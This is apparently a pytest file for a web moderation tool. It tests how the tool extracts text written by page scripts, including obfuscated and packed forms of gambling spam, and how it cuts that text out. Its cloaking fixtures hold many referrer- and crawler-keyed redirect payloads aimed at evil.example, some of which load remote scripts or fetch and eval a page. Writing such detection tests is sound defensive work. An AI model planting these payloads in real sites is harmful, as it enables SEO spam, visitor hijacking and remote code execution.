"""Scripts: what they write is read without running anything, and cutting it leaves a script."""

from __future__ import annotations

import base64
import shutil
import subprocess
from pathlib import Path
from urllib.parse import quote

import pytest

from moderation.data import Block, Page, Place, Span
from moderation.stages.blocks import outline
from moderation.stages.clean import clean, restore
from moderation.stages.signals import outside

TEXT = "澳门威尼斯人开户"
BASE64 = base64.b64encode(TEXT.encode()).decode()
PACKER = (
    "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)"
    "{d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
    "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
    "('%s',%d,%d,'%s'.split('|'),0,{}))"
)


def codes(form: str, joint: str = ",") -> str:
    return joint.join(form.format(ord(each)) for each in TEXT)


def written(script: str) -> list[Block]:
    """What a script writes, in a page around it."""
    content = f"<p>公司</p>\r\n<script>{script}</script><p>新闻</p>"
    return [block for block in outline(Page(content)).blocks if block.path.startswith("script")]


def source(script: str) -> str:
    (block,) = written(script)
    assert block.text == TEXT
    content = f"<p>公司</p>\r\n<script>{script}</script><p>新闻</p>"
    return content[block.span.start : block.span.end]


# Spellings of a title, and the stretch of the source that is found; "" for the text itself.
TITLES = {
    "plain": (f'document.title = "{TEXT}"', ""),
    "member by string": (f"document['title']='{TEXT}'", ""),
    "member by strings": (f'document["ti"+"tle"]="{TEXT}"', ""),
    "member by escapes": (rf"document['\x74\u0069tle']='{TEXT}'", ""),
    "name with escape": (rf"d\u006fcument.t\u{{69}}tle='{TEXT}'", ""),
    "window": (f"window.document.title='{TEXT}'", ""),
    "top": (f"top.document.title = '{TEXT}'", ""),
    "all by string": (f"window['doc'+'ument']['title']='{TEXT}'", ""),
    "other name of document": (f"var d=document;d.title='{TEXT}'", ""),
    "line break": (f"document\n.title\n=\n'{TEXT}'", ""),
    "comments": (f"document/*x*/.title/*y*/=/*'*/'{TEXT}'", ""),
    "behind a pattern": (f"var a=/'/;document.title='{TEXT}'", ""),
    "behind a quotient": (f"var a=b/c;document.title='{TEXT}';d=e/f", ""),
    "behind a string cut short": (f"var a='x\ndocument.title='{TEXT}'", ""),
    "decodeURIComponent": (f"document.title=decodeURIComponent('{quote(TEXT)}')", quote(TEXT)),
    "decodeURI": (f"document.title=decodeURI('{quote(TEXT)}')", quote(TEXT)),
    "decoder of window": (f"document.title=window['decodeURI']('{quote(TEXT)}')", quote(TEXT)),
    "unescape": (f"document.title=unescape('{codes('%u{:04X}', '')}')", codes("%u{:04X}", "")),
    "atob": (f"document.title=decodeURIComponent(escape(atob('{BASE64}')))", BASE64),
    "atob by bytes": (
        "document.title=decodeURIComponent(atob('" + BASE64 + "').split('').map(function(c){return '%'+"
        "('00'+c.charCodeAt(0).toString(16)).slice(-2)}).join(''))",
        BASE64,
    ),
    "atob by decoder": (
        f"document.title=new TextDecoder('utf-8').decode(Uint8Array.from(atob('{BASE64}'),c=>c.charCodeAt(0)))",
        BASE64,
    ),
    "codes": (f"document.title=String.fromCharCode({codes('{}')})", codes("{}")),
    "given if there is none": (f"document.title||='{TEXT}'", ""),
    "given if it is null": (f"document['title'] ??= '{TEXT}'", ""),
    "given if there is one": (f"document.title &&= '{TEXT}'", ""),
    "argument of a function that is called at once": (f"(function(t){{document.title=t}})('{TEXT}')", ""),
    "argument, called inside of brackets": (f"(function(a,t){{document.title=t}}(1,'{TEXT}'))", ""),
    "argument, called by a sign": (f"!function(t){{document.title=t}}('{TEXT}')", ""),
    "argument of an arrow": (f"((d,t)=>{{d.title=t}})(document,'{TEXT}')", ""),
    "argument of an arrow without brackets": (f"(t=>document.title=t)('{TEXT}')", ""),
    "argument of call": (f"(function(t){{document.title=t}}).call(this,'{TEXT}')", ""),
    "argument of apply": (f"(function(t){{document.title=t}}).apply(this,['{TEXT}'])", ""),
    "argument of a function": (f"function f(t){{document.title=t}}f('{TEXT}')", ""),
    "argument of a function behind its call": (f"f('{TEXT}');function f(t){{document.title=t}}", ""),
    "argument of a function with a name": (f"var f=function(t){{document.title=t}};f('{TEXT}')", ""),
    "argument of an arrow with a name": (f"const f=t=>{{document.title=t}};f('{TEXT}')", ""),
    "argument of a method": (f"var o={{f:function(t){{document.title=t}}}};o.f('{TEXT}')", ""),
    "argument with what is added": (
        "(function(t){t+='威尼斯人开户';document.title=t})('澳门')",
        "威尼斯人开户",
    ),
    "argument over a name around it": (f"var t='公司';(function(t){{document.title=t}})('{TEXT}')", ""),
    "name behind a function with such an argument": (
        f"var t='{TEXT}';(function(t){{go(t)}})('公司');document.title=t",
        "",
    ),
    "list as an argument": (f"(function(w){{document[w[0]]=w[1]}})(['title','{TEXT}'])", ""),
    "parsed text": (f"document.title=JSON.parse('\"{TEXT}\"')", ""),
    "parsed object": (f'document.title=JSON.parse(\'{{"a":1,"t":"{TEXT}"}}\').t', ""),
    "parsed list": (f'document.title=JSON.parse(\'["公司","{TEXT}"]\')[1]', ""),
    "parsed escapes": (
        f'document.title=JSON.parse(\'{{"t":[{{"a":"{codes(chr(92) * 2 + "u{:04x}", "")}"}}]}}\')[\'t\'][0].a',
        codes(chr(92) * 2 + "u{:04x}", ""),
    ),
    "member of an object": (f"var o={{a:'公司',t:'{TEXT}'}};document.title=o.t", ""),
    "member of an object by string": (f"var o={{'t':'{TEXT}'}};document.title=o['t']", ""),
    "member of a member": (f"var o={{a:{{b:'{TEXT}'}}}};document.title=o.a.b", ""),
    "member by its own name": (f"var t='{TEXT}',o={{t}};document.title=o.t", ""),
    "member given later": (f"var o={{}};o.t='{TEXT}';document.title=o.t", ""),
    "member of the window": (f"window.t='{TEXT}';document.title=t", ""),
    "codes, hexadecimal": (f"document.title=String['fromCharCode']({codes('0x{:x}')})", codes("0x{:x}")),
    "codes applied": (f"document.title=String.fromCharCode.apply(null,[{codes('{}', ', ')}])", codes("{}", ", ")),
    "codes one by one": (
        f"document.title=[{codes('{}')}].map(function(c){{return String.fromCharCode(c)}}).join('')",
        codes("{}"),
    ),
    "u": (f"document.title='{codes(chr(92) + 'u{:04x}', '')}'", codes("\\u{:04x}", "")),
    "u in braces": (f"document.title='{codes(chr(92) + 'u{{{:x}}}', '')}'", codes("\\u{{{:x}}}", "")),
    "references": (f"document.title='{codes('&#{};', '')}'", codes("&#{};", "")),
    "template": (f"document.title=`{TEXT}`", ""),
    "template with a literal": ("document.title=`澳门${'威尼斯人'}开户`", "澳门${'威尼斯人'}开户"),
    "sum": ("document.title='澳门'+\n\"威尼斯人\"+`开户`", '澳门\'+\n"威尼斯人"+`开户'),
    "concat": ("document.title='澳门'.concat('威尼斯人','开户')", "澳门'.concat('威尼斯人','开户"),
    "join": ("document.title=['澳门','威尼斯人','开户'].join('')", "澳门','威尼斯人','开户"),
    "reversed": (
        f"document.title='{TEXT[::-1]}'.split('').reverse().join('')",
        f"'{TEXT[::-1]}'.split('').reverse().join('')",
    ),
    "replaced": (f"document.title='{'x'.join(TEXT)}'.replace(/x/g,'')", "x".join(TEXT)),
    "variable": (f"var t='{TEXT}';go('x');document.title=t", ""),
    "variable of a variable": (f"var s='{TEXT}',t=s;document.title=t", ""),
    "variable given twice": (f"var t='公司';t='{TEXT}';document.title=t;t='新闻'", ""),
    "variables": ("var a='澳门',b='威尼斯人开户';document.title=a+b", "威尼斯人开户"),
    "added": ("var s='';s+='澳门';s+='威尼斯人开户';document.title=s", "威尼斯人开户"),
    "item of a list": (f"var _0x1a=['{TEXT}','title'];document[_0x1a[1]]=_0x1a[0]", ""),
    "on one side": (f"document.title=ok?'{TEXT}':name", ""),
    "otherwise": (f"document.title=name||'{TEXT}'", ""),
    "in a function": (f"(function(){{if(a){{document.title='{TEXT}'}}}})()", ""),
    "written script": (f"document.write('<script>document.title=\"{TEXT}\"<\\/script>')", ""),
    "run": (f"eval('document.title=\"{TEXT}\"')", ""),
    "run later": (f"setTimeout('document.title=\"{TEXT}\"',9)", ""),
    "packed": (PACKER % ('0.1="2"', 3, 3, f"document|title|{TEXT}"), ""),
}


@pytest.mark.parametrize(("script", "origin"), TITLES.values(), ids=TITLES)
def test_titles(script: str, origin: str) -> None:
    assert source(script) == (origin or TEXT)
    assert [(block.place, block.path) for block in written(script)] == [(Place.TITLE, "script[document.title]")]


# What is written, and by what.
WRITINGS = {
    "write": (f"document.write('<p>{TEXT}</p>')", "document.write"),
    "several": ("document.write('<p>',name,'</p>');document.write('<b>澳门威尼斯人'+'开户</b>')", "document.write"),
    "writeln": (f'document.writeln("<div style=\\"color:red\\">{TEXT}</div>")', "document.writeln"),
    "write by string": (f"document['wri'+'te']('{TEXT}')", "document.write"),
    "references": (f"document.write('<a href=/x>{codes('&#x{:x};', '')}</a>')", "document.write"),
    "coded": (f"document.write(unescape('%3Cp%3E{codes('%u{:04x}', '')}%3C/p%3E'))", "document.write"),
    "innerHTML": (f"document.getElementById('x').innerHTML='<b>{TEXT}</b>'", "innerHTML"),
    "innerHTML added": (f"x.innerHTML+='{TEXT}'", "innerHTML"),
    "outerHTML": (f"x['outerHTML']='<b>{TEXT}</b>'", "outerHTML"),
    "insertAdjacentHTML": (f"x.insertAdjacentHTML('beforeend','<i>{TEXT}</i>')", "insertAdjacentHTML"),
    "textContent": (f"document.querySelector('p').textContent='{TEXT}'", "textContent"),
    "nodeValue": (f"x.firstChild.nodeValue='{TEXT}'", "nodeValue"),
    "write called": (f"document.write.call(document,'<p>{TEXT}</p>')", "document.write"),
    "write applied": (f"document.writeln.apply(document,['<p>','{TEXT}','</p>'])", "document.writeln"),
    "jQuery html": (f"$('#x').html('<b>{TEXT}</b>')", "html"),
    "jQuery text": (f"jQuery('.x').show().text('{TEXT}')", "text"),
    "jQuery append": (f"$(document.body).append('<p>{TEXT}</p>')", "append"),
    "jQuery prepend": (f"$('body').prepend('<p>{TEXT}</p>')", "append"),
    "jQuery, by the name of a variable": (f"var $x=$('#x');$x.html('{TEXT}')", "html"),
    "jQuery makes elements": (f"$('<p>{TEXT}</p>').appendTo('body')", "jQuery"),
    "argument of a function": (f"function w(t){{document.write('<p>'+t+'</p>')}}w('{TEXT}')", "document.write"),
    "run codes": (
        "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in f"document.write('{TEXT}')") + "))",
        "document.write",
    ),
    "script in a script": (
        f"document.write('<script>document.write(\"<p>{TEXT}</p>\")<\\/script>')",
        "document.write",
    ),
}


@pytest.mark.parametrize(("script", "how"), WRITINGS.values(), ids=WRITINGS)
def test_writings(script: str, how: str) -> None:
    assert [(block.text, block.place, block.path) for block in written(script)] == [
        (TEXT, Place.SCRIPT, f"script[{how}]")
    ]


# Titles and metadata by the elements they stand in.
ELEMENTS = {
    "title by selector": (f"document.querySelector('title').textContent='{TEXT}'", Place.TITLE, "title"),
    "title by tag": (f"document.getElementsByTagName('title')[0].innerHTML='{TEXT}'", Place.TITLE, "title"),
    "text of a title": (f"document.querySelector('head > title').text='{TEXT}'", Place.TITLE, "title"),
    "text of a title in a variable": (
        f"var t=document.getElementsByTagName('TITLE')[0];t.text='{TEXT}'",
        Place.TITLE,
        "title",
    ),
    "value of a title's node": (
        f"document.querySelector('title').firstChild.nodeValue='{TEXT}'",
        Place.TITLE,
        "title",
    ),
    "jQuery html": (f"$('title').html('{TEXT}')", Place.TITLE, "title"),
    "jQuery text": (f"jQuery(\"head title\").text('{TEXT}')", Place.TITLE, "title"),
    "jQuery append": (f"$('title').first().append('{TEXT}')", Place.TITLE, "title"),
    "jQuery, held": (f"var $t=$('title');$t.text('{TEXT}')", Place.TITLE, "title"),
    "meta by selector": (
        f"document.querySelector('meta[name=\"description\"]').setAttribute('content','{TEXT}')",
        Place.META,
        "meta",
    ),
    "meta's member": (f"document.querySelector('meta[name=keywords]').content='{TEXT}'", Place.META, "meta"),
    "meta made": (
        f"var m=document.createElement('meta');m.name='keywords';m.content='{TEXT}'",
        Place.META,
        "meta",
    ),
    "meta of jQuery": (f"$('meta[name=description]').attr('content','{TEXT}')", Place.META, "meta"),
}


@pytest.mark.parametrize(("script", "place", "how"), ELEMENTS.values(), ids=ELEMENTS)
def test_elements_written(script: str, place: Place, how: str) -> None:
    assert [(block.text, block.place, block.path) for block in written(script)] == [(TEXT, place, f"script[{how}]")]


def test_names_that_stand_in_each_other_do_not_use_up_a_script() -> None:
    names = [f"n{number}" for number in range(12)]
    circle = "".join(f"{name}={'||'.join(other for other in names if other != name)};" for name in names)
    asked = "".join(f"e.innerHTML={name};" for name in names) * 20
    script = f"function f({','.join(names)}){{{circle}}}f({','.join(names)});{asked}document.write('{TEXT}')"
    assert [block.text for block in written(script)] == [TEXT]
    # What one of them is given later counts from there on.
    (block,) = written(f"a=b;b=a;e.innerHTML=a;a='{TEXT}';e.innerHTML=b;b=a;e.innerHTML=b")
    assert block.text == TEXT


def test_each_call_of_a_function_is_read() -> None:
    script = "function w(a,t){document.write('<p>'+t+'</p>');}w(1,'公司');w(2,'澳门开户');w(3,'时时彩')"
    assert [block.text for block in written(script)] == ["公司", "澳门开户", "时时彩"]


def test_written_markup_is_read_as_markup() -> None:
    script = (
        'document.write(\'<ul><li><a href="http://x.example/">澳门</a> 开户</li><!--一--><style>p{}</style>'
        "<li>博&amp;彩</li></ul><img src=a>')"
    )
    assert [block.text for block in written(script)] == ["澳门 开户\n博&彩"]


NOTHING = {
    "another title": f"page.title='{TEXT}'",
    "another write": f"log.write('{TEXT}')",
    "a string": f"var words='{TEXT}'",
    "in a comment": f"/* document.title='{TEXT}' */ // document.title='{TEXT}'\n<!-- document.title='{TEXT}'",
    "in a string": f"var a=\"document.title='{TEXT}'\"",
    "compared": f"if(document.title=='{TEXT}')go()",
    "compared again": f"document.title==='{TEXT}'",
    "not known": "document.title=name;document.write(name);x.innerHTML=f('a')",
    "string cut short": f"document.title='{TEXT}",
    "an element cut short": "''$('",
    "no letters": "document.write('<br>&nbsp;1')",
    "a later value": f"document.title=t;var t='{TEXT}'",
    "a pattern": f"x=/document.title='{TEXT}'/",
    "text of another element": f"option.text='{TEXT}'",
    "content of another thing": f"dialog.content='{TEXT}'",
    "metadata in ASCII": "document.querySelector('meta').setAttribute('content','width=device-width')",
    "no element of jQuery": f"form.append('{TEXT}');map.text('{TEXT}')",
    "another attribute": f"$('a').attr('data-x','{TEXT}')",
    "argument behind its function": f"(function(t){{}})('{TEXT}');document.title=t",
    "another argument": f"(function(a,t){{document.title=t}})('{TEXT}')",
    "member of another object": f"var o={{t:'{TEXT}'}};document.title=p.t",
    "names of nothing": "document.title=t;t=t;document.write(t);a=b;b=a;document.write(a)",
}


@pytest.mark.parametrize("script", NOTHING.values(), ids=NOTHING)
def test_nothing_is_written(script: str) -> None:
    assert written(script) == []


LONG = 100_000
HOSTILE = {
    "doubled": "var a='ab';" + "a=a+a;" * 5000 + "document.title=a",
    "doubled by names": "var a0='ab';"
    + "".join(f"var a{i + 1}=a{i}+a{i};" for i in range(5000))
    + "document.title=a4999",
    "added and written": "s='x';" + "s+='澳门';document.write(s);" * 5000,
    "lists": "document.title=" + "[" * LONG,
    "brackets": "document.title=" + "(" * LONG + "'a'" + ")" * LONG,
    "members": "a" + ".b" * LONG + "=1",
    "calls": "unescape(" * LONG,
    "patterns": "a=[/" * LONG,
    "templates": "`${" * LONG,
    "writes of writes": "document.write(" * LONG + "'澳门'",
    "titles": "document.title=" * LONG,
    "names": "".join(f"a{i}=" for i in range(LONG)) + "1",
    "escapes": "document.title='" + "\\u" * LONG + "'",
    "percents": "document.title=decodeURIComponent('" + "%" * LONG + "')",
    "tags": "document.write('" + "<a " * LONG + "')",
    "quotes": "document.write('" + '<a "' * LONG + "')",
    "scripts": "document.write('" + "<script>" * LONG + "')",
    "comments": "document.write('" + "<!--" * LONG + "')",
    "splits": "document.title='" + "a" * LONG + "'" + ".split('').join('a')" * 200,
    "replaced": "document.title='" + "a" * LONG + "'" + ".replace(/a/g,'aaaa')" * 200,
    "guards": "if(/baidu/.test(document.referrer))" * 20_000 + "location='http://x.example'",
    "functions": "function f(){if(/baidu/.test(document.referrer))" * 20_000 + "location='http://x.example'",
    "functions called by themselves": "function f(t){document.title=f(t+t);f(t)}" * 5000 + "f('澳门')",
    "functions called at once": "(function(t){document.title=t" * 20_000 + "})('澳门')" * 20_000,
    "one function called often": "function f(t){document.write(t)}" + "f('澳');" * 20_000,
    "parameters": "function f(" + ",".join(f"a{i}" for i in range(LONG // 2)) + "){document.title=a1}f('')",
    "arrows": "a=>" * LONG + "b",
    "parsed": "var j='[" + "1," * 10_000 + "1]';" + "document.title=JSON.parse(j);" * 500,
    "parsed in parsed": "document.title=" + "JSON.parse(" * LONG + "'1'",
    "members given": "a.b='澳';document.title=a.b;" * 20_000,
    "members of objects": "var o={"
    + ",".join(f"a{i}:'澳'" for i in range(5000))
    + "};"
    + "document.title=o.a4;" * 5000,
    "objects": "document.title=" + "{a:" * LONG,
    "queries": "$(" * LONG + "'澳'",
    "chains": "$('p')" + ".a()" * LONG + ".html('')",
    "list looked up": "var a=["
    + "'baidu'," * 5000
    + "];"
    + "if(document.referrer==a[9])location=a[7];" * 5000
    + "location='http://x.example'",
    "lists looked up": "var a=['x'];" * 5000 + "b=a[0]+a[0];" * 5000 + "document.referrer;location='http://x.example'",
    "cases": "switch(document.referrer){" + "case 'baidu':" * 20_000 + "location='http://x.example'}",
    "switches": "switch(document.referrer){case 'baidu':" * 20_000 + "location='http://x.example'",
    "requests": "document.referrer;location='http://x.example';" + "fetch(" * LONG,
    "closed": "}])" * LONG,
    "packed": PACKER % ("0 " * LONG, 2, 1, "ab" * LONG),
}


@pytest.mark.parametrize("script", HOSTILE.values(), ids=HOSTILE)
def test_hostile_scripts_cost_little(script: str) -> None:
    # Each takes well under a second; what doubles or is read again and again would take hours or all memory.
    blocks = outline(Page(f"<script>{script}</script><p>{TEXT}</p>")).blocks
    assert blocks[-1].text == TEXT
    assert sum(len(block.text) for block in blocks) < 20 * len(script) + 10_000


# -- cutting


def cut(script: str) -> str:
    """The script without what it writes."""
    content = f"<p>公司</p><script>{script}</script><p>新闻</p>"
    spans = [block.span for block in outline(Page(content)).blocks if block.path.startswith("script")]
    cleaned = clean(Page(content), spans)
    assert spans
    assert restore(cleaned.content, cleaned.cuts) == content
    front, back = "<p>公司</p><script>", "</script><p>新闻</p>"
    assert cleaned.content.startswith(front)
    assert cleaned.content.endswith(back)
    return cleaned.content[len(front) : -len(back)]


CUTS = {
    "string": (f"document.title='{TEXT}';go()", "document.title='';go()"),
    "half": (f"document.title='公司 - {TEXT}'", "document.title=''"),
    "escapes": (r"document.title='\u6fb3\u95e8\'a'", "document.title=''"),
    "codes": ("document.title=String.fromCharCode(28595,38376)", "document.title=String.fromCharCode()"),
    "list": ("document.title=['澳门','开户'].join('')", "document.title=['',''].join('')"),
    "sum": ("document.title='澳门'+name+\"开户\"", "document.title=''+name+\"\""),
    "reversed": (
        "document.title='户开'.split('').reverse().join('')",
        "document.title=''.split('').reverse().join('')",
    ),
    "variable": ("var t='澳门';document.title=t", "var t='';document.title=t"),
    "markup": ("document.write('<p>澳门</p>')", "document.write('<p></p>')"),
    "template": ("document.title=`澳门${'开户'}`", "document.title=`${''}`"),
    "base64": (
        f"document.title=decodeURIComponent(escape(atob('{BASE64}')))",
        "document.title=decodeURIComponent(escape(atob('')))",
    ),
}


@pytest.mark.parametrize(("script", "rest"), CUTS.values(), ids=CUTS)
def test_cutting_empties_literals(script: str, rest: str) -> None:
    assert cut(script) == rest


def test_cutting_makes_no_end_of_a_script() -> None:
    assert cut("document.title='<澳门/script>'") == "document.title=''"
    content = "<script>document.title='a<澳门/script>'</script>"
    at = content.index("澳门")
    assert clean(Page(content), [Span(at, at + 2)]).content == "<script>document.title=''</script>"


def test_a_part_of_an_escape_takes_it_as_a_whole() -> None:
    content = r"<script>document.title='a\u6fb3\u95e8b'</script>"
    at = content.index("6fb3")
    assert clean(Page(content), [Span(at + 1, at + 7)]).content == "<script>document.title='ab'</script>"


def test_a_script_cut_as_a_whole_is_gone() -> None:
    content = "<p>公司</p><script>go('澳门')</script>"
    at = content.index("go")
    assert clean(Page(content), [Span(at, at + len("go('澳门')"))]).content == "<p>公司</p>"


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_what_is_left_is_valid(tmp_path: Path) -> None:
    scripts = [script for script, _ in (*TITLES.values(), *WRITINGS.values(), *CUTS.values())]
    # This one is broken before it is cut.
    scripts = [script for script in scripts if not script.startswith("var a='x\n")]
    path = tmp_path / "cut.js"
    path.write_text("".join(f"(function(){{\n{cut(script)}\n}})();\n" for script in scripts), "utf-8")
    done = subprocess.run(["node", "--check", str(path)], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


# -- visitors who are sent elsewhere

CLOAKS = {
    "referrer": (
        "if(/baidu|sogou/i.test(document.referrer)){location.href='https://evil.example/x'}",
        "script:cloaking",
    ),
    "referrer in a variable": (
        "var s=document.referrer\nif(s.indexOf('google')>0||s.indexOf('baidu')>0)location='http://evil.example/'",
        "script:cloaking",
    ),
    "list and function": (
        (
            "var r=document.referrer,e=['baidu','so.com'];"
            "function s(){for(var i=0;i<2;i++)if(r.indexOf(e[i])>0)return 1}"
            "if(s())window.location.replace('//evil.example/')"
        ),
        "script:cloaking",
    ),
    "robot is spared": (
        "if(!/spider/i.test(navigator.userAgent))top.location='http://evil.example'",
        "script:cloaking",
    ),
    "left early": (
        "(function(){if(!/baidu/.test(document.referrer))return;window.location.href='http://evil.example'})()",
        "script:cloaking",
    ),
    "otherwise": (
        "if(!/sm\\.cn/.test(document.referrer)){go()}else{location.assign('http://evil.example')}",
        "script:cloaking",
    ),
    "and": ("/bing/.test(document.referrer)&&(location='http://evil.example')", "script:cloaking"),
    "either": ("document.referrer.indexOf('haosou')>0?location='http://evil.example':0", "script:cloaking"),
    "function that sends": (
        "function f(){location.href='http://evil.example'}if(document.referrer.indexOf('toutiao')>0){f()}",
        "script:cloaking",
    ),
    "script loaded": (
        "if(/baidu/.test(document.referrer)){document.write('<script src=\"http://evil.example/a.js\"><\\/script>')}",
        "script:cloaking",
    ),
    "script made": (
        (
            "if(/baidu/.test(document.referrer)){var s=document.createElement('script');s.src='http://evil.example/a';"
            "document.body.appendChild(s)}"
        ),
        "script:cloaking",
    ),
    "refresh written": (
        "if(/baidu/.test(document.referrer))document.write('<meta http-equiv=refresh content=\"0;url=http://evil.example\">')",
        "script:cloaking",
    ),
    "address by strings": (
        "if(/baidu/.test(document['ref'+'errer'])){window['loc'+'ation']['href']='ht'+'tp://evil.example'}",
        "script:cloaking",
    ),
    "run": (
        "eval(unescape('" + quote("if(/baidu/.test(document.referrer))location='http://evil.example'") + "'))",
        "script:cloaking",
    ),
    "name by escapes": (
        r"if(document.referrer.indexOf('\x62\x61\x69\x64\x75')>0)location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "name by escapes in a pattern": (
        r"if(/\x62\u0061idu/.test(document.referrer))location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "name by strings": (
        "if(document.referrer.indexOf('bai'+'du')>0)location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "name by variables": (
        "var a='bai',b='du';if(document.referrer.indexOf(a+b)>0)location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "name added up": (
        "var a='bai';a+='du';if(document.referrer.indexOf(a)>0)location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "name joined": (
        "var r=new RegExp(['bai','du'].join(''));if(r.test(document.referrer))location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "name reversed": (
        "if(document.referrer.match('udiab'.split('').reverse().join('')))location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "name in base64": (
        "if(document.referrer.indexOf(atob('YmFpZHU='))>0)location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "name by codes": (
        "if(document.referrer.match(String.fromCharCode(98,97,105,100,117)))location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "name in a template": (
        "if(document.referrer.match(`bai${'du'}`))location.href='http://evil.example/'",
        "script:cloaking",
    ),
    "list of strings": (
        (
            r"var _0xab12=['\x72\x65\x66\x65\x72\x72\x65\x72','indexOf','\x62\x61\x69\x64\x75','location','href',"
            r"'http://evil.example/'];if(document[_0xab12[0]][_0xab12[0x1]](_0xab12[2])>0)"
            "{window[_0xab12[3]][_0xab12[0x4]]=_0xab12[5]}"
        ),
        "script:cloaking",
    ),
    "list of strings, held": (
        (
            r"var _0xab12=['referrer','test','location','http://evil.example/','\x62aidu'];"
            "var r=document[_0xab12[0]];if(new RegExp(_0xab12[4]).test(r)){window[_0xab12[2]]=_0xab12[3]}"
        ),
        "script:cloaking",
    ),
    "case": (
        "switch(true){case /baidu/.test(document.referrer):location.href='http://evil.example/';break;default:go()}",
        "script:cloaking",
    ),
    "case that falls through": (
        "switch(true){case /baidu/.test(document.referrer):case a:location.href='http://evil.example/'}",
        "script:cloaking",
    ),
    "case of a visitor": (
        "switch(document.referrer.split('/')[2]){case 'www.baidu.com':location.href='http://evil.example/'}",
        "script:cloaking",
    ),
    "window": (
        "if(/baidu/.test(document.referrer))window.open('http://evil.example/','_self')",
        "script:cloaking",
    ),
    "window by its bare name": (
        "if(/baidu/.test(document.referrer)){open('http://evil.example/','_to'+'p')}",
        "script:cloaking",
    ),
    "link made and clicked": (
        (
            "if(/baidu/.test(document.referrer)){var a=document.createElement('a');a.href='http://evil.example/';"
            "document.body.appendChild(a);a.click()}"
        ),
        "script:cloaking",
    ),
    "link made by attribute": (
        (
            "var a=document.createElement('a');a.setAttribute('href','http://evil.example/');"
            "if(/baidu/.test(document.referrer))a.click()"
        ),
        "script:cloaking",
    ),
    "form made and sent": (
        (
            "if(/baidu/.test(document.referrer)){var f=document.createElement('form');f.action='http://evil.example/';"
            "document.body.appendChild(f);f.submit()}"
        ),
        "script:cloaking",
    ),
    "script got": ("if(/baidu/.test(document.referrer))$.getScript('http://evil.example/a.js')", "script:cloaking"),
    "module": ("if(/baidu/.test(document.referrer))import('http://evil.example/a.js')", "script:cloaking"),
    "page fetched and written": (
        (
            "if(!/spider/.test(navigator.userAgent))fetch('http://evil.example/').then(r=>r.text())"
            ".then(t=>{document.open();document.write(t)})"
        ),
        "script:cloaking",
    ),
    "page got and written": (
        "if(/baidu/.test(document.referrer))$.get('http://evil.example/',function(t){document.write(t)})",
        "script:cloaking",
    ),
    "answer run": (
        "if(/baidu/.test(document.referrer))fetch('http://evil.example/').then(r=>r.text()).then(t=>eval(t))",
        "script:cloaking",
    ),
    "links for robots": (
        "if(/baiduspider|googlebot/i.test(navigator.userAgent))document.write('<a href=\"http://evil.example/\">一</a>')",
        "script:cloaking",
    ),
    "links for robots, otherwise": (
        (
            "var u=navigator.userAgent;if(u.indexOf('spider')==-1){go()}else{"
            "document.write('<a href=\"http://evil.example/\">一</a>')}"
        ),
        "script:cloaking",
    ),
    "links for robots, left early": (
        (
            "function f(){if(!/spider/i.test(navigator.userAgent))return;"
            "document.body.innerHTML+='<a href=\"http://evil.example/\">一</a>'}f()"
        ),
        "script:cloaking",
    ),
    "script for robots": (
        (
            "if(navigator.userAgent.indexOf('Baiduspider')>-1)"
            "document.write('<script src=\"http://evil.example/a.js\"><\\/script>')"
        ),
        "script:cloaking",
    ),
    "mobile": (
        "if(/android|iphone/i.test(navigator.userAgent))location.href='http://m.evil.example/'",
        "script:redirect",
    ),
}


@pytest.mark.parametrize(("script", "code"), CLOAKS.values(), ids=CLOAKS)
def test_cloaking(script: str, code: str) -> None:
    content = f"<title>公司</title><script>{script}</script>"
    marks = [mark for mark in outline(Page(content)).marks if mark.code != "script:obfuscated"]
    assert [(mark.code, mark.detail.removeprefix("m.")) for mark in marks] == [(code, "evil.example")]
    assert content[marks[0].span.start : marks[0].span.end] == script


# Scripts in attributes, what of the source their text is, and what is left once it is cut.
HANDLERS = {
    "load": (f"<body onload=\"document.title='{TEXT}'\">", TEXT, "<body onload=\"document.title=''\">"),
    "error": (f"<img src=x onerror='document.write(\"<p>{TEXT}</p>\")'>", TEXT, None),
    "load of a drawing": (f"<svg onload=document.title='{TEXT}'></svg>", TEXT, "<svg onload=document.title=''></svg>"),
    "address": (f"<a href=\"javascript:document.write('{TEXT}')\"></a>", TEXT, None),
    "address of a frame": (f"<iframe src=\"javascript:document.write('{TEXT}')\"></iframe>", TEXT, None),
    "references": (
        f"<a href='&#106;ava&#115;cript:document.write(&quot;{codes('&#{};', '')}&quot;)'></a>",
        codes("&#{};", ""),
        "<a href='&#106;ava&#115;cript:document.write(&quot;&quot;)'></a>",
    ),
    "escapes of an address": (
        f"<a href=\"JavaScript:document.write('%3Cp%3E{quote(TEXT)}')\"></a>",
        quote(TEXT),
        None,
    ),
    "base64": (
        f"<img onload=document.title=decodeURIComponent(escape(atob('{BASE64}')))>",
        BASE64,
        "<img onload=document.title=decodeURIComponent(escape(atob('')))>",
    ),
}


@pytest.mark.parametrize(("content", "origin", "rest"), HANDLERS.values(), ids=HANDLERS)
def test_scripts_in_attributes(content: str, origin: str, rest: str | None) -> None:
    page = Page(f"<script type='application/ld+json'>{{}}</script><p>公司</p>{content}<p>新闻</p>")
    (block,) = [block for block in outline(page).blocks if block.path.startswith("script")]
    assert (block.text, block.place) == (TEXT, Place.TITLE if "title" in content else Place.SCRIPT)
    assert page.content[block.span.start : block.span.end] == origin
    if rest is not None:
        cleaned = clean(page, [block.span])
        assert cleaned.content == page.content.replace(content, rest)
        assert restore(cleaned.content, cleaned.cuts) == page.content


def test_cloaking_in_a_handler() -> None:
    script = "if(/baidu/.test(document.referrer))location=&quot;http://evil.example/&quot;"
    content = f'<p>公司</p><img src=x onerror="{script}">'
    (mark,) = outline(Page(content)).marks
